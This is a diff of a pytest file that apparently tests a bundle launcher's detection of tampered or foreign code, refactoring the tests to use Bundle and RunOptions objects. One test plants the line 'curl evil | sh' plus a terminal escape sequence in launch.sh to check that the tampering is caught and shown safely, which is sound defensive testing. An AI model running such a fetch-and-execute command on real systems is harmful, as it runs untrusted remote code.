@@ -5,10 +5,10 @@ from pathlib import Path
 import pytest
 
 from cvbundle.archive.pack import archive_bundle
-from cvbundle.bundle.settings import read_spec
+from cvbundle.bundle.bundle import Bundle
 from cvbundle.compiler.build import Compiled
 from cvbundle.execution.foreign_code import ForeignCode, foreign_code, require_own_code
-from cvbundle.execution.launch import plan_launch
+from cvbundle.execution.launch import RunOptions, plan_launch
 from cvbundle.problems import UserError
 from tests.bundle.reseal import plant, resealed, sealed
 
@@ -21,23 +21,22 @@ def _change(path: Path, content: bytes) -> None:
 
 
 def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> None:
-    spec = read_spec(compiled.bundle)
-    assert foreign_code(compiled.bundle, spec) == []
-    require_own_code(compiled.bundle, spec)
+    assert foreign_code(compiled.bundle) == []
+    require_own_code(compiled.bundle)
 
 
 def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> None:
     bundle = compiled.bundle
-    script = bundle / "launch.sh"
+    script = bundle.folder / "launch.sh"
     _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
-    _change(bundle / "code/long.py", b"x = 1\n" * 99)
+    _change(bundle.folder / "code/long.py", b"x = 1\n" * 99)
     with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
-        require_own_code(bundle, read_spec(bundle))
+        require_own_code(bundle)
     assert len(refused.value.excerpt) == 21
     assert refused.value.excerpt[-1].endswith("more lines")
-    (bundle / "code/long.py").unlink()
+    (bundle.folder / "code/long.py").unlink()
     with pytest.raises(ForeignCode) as refused:
-        require_own_code(bundle, read_spec(bundle))
+        require_own_code(bundle)
     assert "-set -euo pipefail" in refused.value.excerpt
     # What a terminal would obey is not passed on.
     assert "+curl evil | sh\\x1b[2J" in refused.value.excerpt
@@ -49,12 +48,12 @@ def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> N
 def test_code_that_this_installation_does_not_have_is_foreign(
     name: str, compiled: Compiled
 ) -> None:
-    plant(compiled.bundle, name)
-    bundle = sealed(compiled.bundle)
+    plant(compiled.bundle.folder, name)
+    bundle = sealed(compiled.bundle.folder)
     with pytest.raises(ForeignCode, match=rf"would not write \({name}\)") as refused:
-        plan_launch(bundle)
+        plan_launch(Bundle(bundle))
     assert "+print('executed')" in refused.value.excerpt
-    assert plan_launch(bundle, trust=True).command
+    assert plan_launch(Bundle(bundle), RunOptions(trust=True)).command
 
 
 @pytest.mark.parametrize(
@@ -69,10 +68,10 @@ def test_code_that_this_installation_does_not_have_is_foreign(
 def test_settings_of_accelerate_that_this_installation_would_not_write_are_foreign(
     old: bytes, new: bytes, compiled: Compiled
 ) -> None:
-    bundle = resealed(compiled.bundle, "accelerate.yaml", old, new)
+    bundle = resealed(compiled.bundle.folder, "accelerate.yaml", old, new)
     with pytest.raises(ForeignCode, match=r"would not write \(accelerate\.yaml\)"):
-        plan_launch(bundle)
-    assert plan_launch(bundle, trust=True).command
+        plan_launch(Bundle(bundle))
+    assert plan_launch(Bundle(bundle), RunOptions(trust=True)).command
 
 
 @pytest.mark.parametrize(
@@ -81,22 +80,22 @@ def test_settings_of_accelerate_that_this_installation_would_not_write_are_forei
 def test_what_lies_beside_a_bundle_and_belongs_to_none_needs_trust(
     name: str, compiled: Compiled
 ) -> None:
-    plant(compiled.bundle, name)
+    plant(compiled.bundle.folder, name)
     stray = "/".join(name.split("/")[:2])
     with pytest.raises(UserError, match=rf"holds what no bundle does \({stray}\): .*--trust"):
         plan_launch(compiled.bundle)
-    assert plan_launch(compiled.bundle, trust=True).command
+    assert plan_launch(compiled.bundle, RunOptions(trust=True)).command
 
 
 def test_a_validation_image_that_the_settings_do_not_name_needs_trust(compiled: Compiled) -> None:
-    plant(compiled.bundle, "validation/07.png")
-    bundle = sealed(compiled.bundle)
+    plant(compiled.bundle.folder, "validation/07.png")
+    bundle = sealed(compiled.bundle.folder)
     with pytest.raises(UserError, match=r"holds what no bundle does \(validation/07\.png\)"):
-        plan_launch(bundle)
+        plan_launch(Bundle(bundle))
 
 
 def test_what_compiling_running_and_archiving_leave_is_no_stranger(compiled: Compiled) -> None:
     for name in ("runs/0001/run.json", "local/.paths.json.x.tmp", "local/data/a.mp4"):
-        plant(compiled.bundle, name, b"{}")
-    archive_bundle(compiled.bundle, compiled.bundle.parent / "it.tar.zst", provenance=True)
+        plant(compiled.bundle.folder, name, b"{}")
+    archive_bundle(compiled.bundle, compiled.bundle.folder.parent / "it.tar.zst", provenance=True)
     assert plan_launch(compiled.bundle).command
